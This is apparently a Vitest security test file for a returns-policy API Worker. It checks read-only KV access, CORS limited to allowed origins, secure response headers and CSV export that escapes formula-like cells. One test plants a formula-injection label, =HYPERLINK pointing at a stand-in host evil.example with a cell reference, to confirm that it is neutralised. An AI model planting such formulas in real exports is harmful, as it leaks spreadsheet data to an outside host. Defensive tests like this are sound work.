// What SECURITY.md promises, each checked against the Worker: nothing writes, CORS only for the
// configured origins, secure headers on every kind of answer, and sheets exported as CSV with every
// formula-looking cell made plain text. (Body and batch limits, problem documents without internals:
// errors.test.ts, batch.test.ts and the fuzzer, fuzz/fuzz.test.ts.)

import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { createApp } from '../../functions/app.js';
import { BundledPolicies } from '../../functions/policy-bundle.js';
import type { Problem } from '../../functions/problem.js';
import { ACME_RETURN } from './claims.js';
import { ACME, fixturePolicy, NIMBUS_PRINT } from './fixture-brands.js';
import { call, emptyKv, freshApp, postJson, readJson, recordingKv } from './worker.js';

const READ_ROUTES = [
  '/healthz',
  '/openapi.json',
  '/docs',
  '/v1/brands',
  `/v1/brands/${ACME}`,
  `/v1/brands/${NIMBUS_PRINT}/coverage?part=build_plate`,
  `/v1/brands/${ACME}/sheets`,
  `/v1/brands/${ACME}/sheets/returns`,
  `/v1/brands/${ACME}/sheets/returns?format=csv`,
];

describe('nothing writes', () => {
  it('has no route but GET and POST, and POST only where a claim is decided or an agent calls a read-only tool', () => {
    const routes = createApp().routes.filter((r) => r.method !== 'ALL');
    expect([...new Set(routes.map((r) => r.method))].sort()).toEqual(['GET', 'POST']);
    // /mcp's tools read only (test/edge/mcp.test.ts spies on the KV binding across all of them).
    expect([...new Set(routes.filter((r) => r.method === 'POST').map((r) => r.path))].sort()).toEqual(['/mcp', '/v1/eligibility', '/v1/eligibility/batch']);
  });

  it('answers PUT, PATCH and DELETE on every route with a 405 problem and what it allows', async () => {
    for (const path of [...READ_ROUTES, '/v1/eligibility', '/v1/eligibility/batch']) {
      for (const method of ['PUT', 'PATCH', 'DELETE']) {
        const res = await call(path, { method, headers: { 'content-type': 'application/json' }, body: '{}' });
        expect(res.status, `${method} ${path}`).toBe(405);
        expect(res.headers.get('allow'), `${method} ${path}`).toBe(path.startsWith('/v1/eligibility') ? 'POST' : 'GET, HEAD');
        expect(res.headers.get('content-type')).toBe('application/problem+json');
      }
    }
  });

  it('only ever reads the KV namespace, whatever it is asked', async () => {
    // Every method of the binding recorded: a put or delete would show here (get and list only read).
    const { calls, spy } = recordingKv();
    const { request, post } = freshApp({ POLICIES: spy }, { now: () => Date.parse('2026-03-01T00:00:00Z') });
    for (const path of READ_ROUTES) await (await request(path)).arrayBuffer();
    await (await post('/v1/eligibility', ACME_RETURN)).arrayBuffer();
    await (await post('/v1/eligibility/batch', { items: [ACME_RETURN] })).arrayBuffer();
    expect(calls.length).toBeGreaterThan(0);
    expect([...new Set(calls)].sort()).toEqual(['get', 'list']);
  });
});

describe('CORS only for the configured origins', () => {
  it.each([
    ['https://shop.example', 'https://shop.example'],
    ['https://support.example', 'https://support.example'],
    ['https://evil.example', null],
    ['https://shop.example.evil.example', null],
    ['http://shop.example', null],
    ['https://shop.example:8443', null],
    ['null', null],
  ])('a request from %s gets Access-Control-Allow-Origin %s', async (origin, granted) => {
    const res = await postJson('/v1/eligibility', ACME_RETURN, { origin });
    expect(res.headers.get('access-control-allow-origin')).toBe(granted);
    const preflight = await call('/v1/eligibility', {
      method: 'OPTIONS',
      headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' },
    });
    expect(preflight.headers.get('access-control-allow-origin')).toBe(granted);
  });

  it('grants no origin when ALLOWED_ORIGINS is not set', async () => {
    const { request } = freshApp({ ALLOWED_ORIGINS: undefined });
    const res = await request('/v1/brands', { headers: { origin: 'https://shop.example' } });
    expect(res.headers.get('access-control-allow-origin')).toBeNull();
  });
});

describe('secure headers on every kind of answer', () => {
  it.each([...READ_ROUTES, '/nope', '/v1/brands/no-such-brand'])('GET %s', async (path) => {
    const res = await call(path);
    expect(res.status).toBeLessThan(500);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('strict-transport-security')).toContain('max-age=');
    expect(res.headers.get('referrer-policy')).toBe('no-referrer');
    expect(res.headers.get('content-security-policy')).toMatch(/default-src 'none'.*frame-ancestors 'none'/);
    expect(res.headers.get('x-request-id')).toBeTruthy();
  });
});

const parseCsv = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true, delimiter: ',' }).data;
const FORMULA = /^[=+\-@\t\r]/;

describe('GET /v1/brands/:brand/sheets/:sheet?format=csv', () => {
  it('exports a decision table for a spreadsheet, no cell able to run as a formula', async () => {
    const res = await call(`/v1/brands/${ACME}/sheets/returns?format=csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${ACME}-returns.csv"`);
    const rows = parseCsv(await res.text());
    const table = fixturePolicy(ACME).tables.find((t) => t.name === 'returns')!;
    expect(rows).toHaveLength(table.rules.length + 1);
    expect(rows[0]![0]).toBe(table.hitPolicy);
    // S-FEEL's "-" (any) is among them: a spreadsheet shows it as typed.
    expect(rows.flat().filter((cell) => cell.startsWith("'-")).length).toBeGreaterThan(0);
    expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
  });

  it('neutralizes a formula an editor typed into a label', async () => {
    const acme = fixturePolicy(ACME);
    const sneaky = { ...acme, remedies: acme.remedies.map((r, i) => (i === 0 ? { ...r, label: '=HYPERLINK("http://evil.example/?x="&A1,"Refund")' } : r)) };
    const { request } = freshApp({ POLICIES: emptyKv }, { bundle: BundledPolicies.of({ [ACME]: sneaky }) });
    const rows = parseCsv(await (await request(`/v1/brands/${ACME}/sheets/remedies?format=csv`)).text());
    expect(rows[1]![1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Refund")`);
    expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
  });

  it('exports the windows sheet too, and names the formats there are', async () => {
    expect(parseCsv(await (await call(`/v1/brands/${NIMBUS_PRINT}/sheets/windows?format=csv`)).text())[0]).toEqual([
      'window',
      'length',
      'unit',
      'counts_from',
      'checked_against',
      'label',
      'badge',
    ]);
    const res = await call(`/v1/brands/${ACME}/sheets/returns?format=xlsx`);
    expect(res.status).toBe(400);
    expect((await readJson<Problem>(res)).errors).toEqual([{ path: 'query.format', message: 'expected one of "json", "csv"' }]);
    expect((await call(`/v1/brands/${ACME}/sheets/nope?format=csv`)).status).toBe(404);
  });
});
